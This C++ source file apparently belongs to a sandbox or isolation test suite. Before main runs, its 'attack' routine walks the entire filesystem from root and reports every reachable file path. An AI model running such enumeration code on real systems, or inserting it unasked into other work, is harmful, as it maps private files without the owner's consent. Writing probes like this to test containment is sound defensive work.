#include "attack.hpp"

#include <filesystem>
#include <string>

namespace {
const attack::BeforeMain now([] {
  std::error_code error;
  auto place = std::filesystem::recursive_directory_iterator(
      "/", std::filesystem::directory_options::skip_permission_denied, error);
  for (; place != std::filesystem::recursive_directory_iterator(); place.increment(error)) {
    const std::string path = place->path().string();
    if (path == "/proc" || path == "/usr" || path == "/dev") {
      place.disable_recursion_pending();
    } else if (place->is_regular_file(error)) {
      attack::report(path);
    }
  }
});
}  // namespace
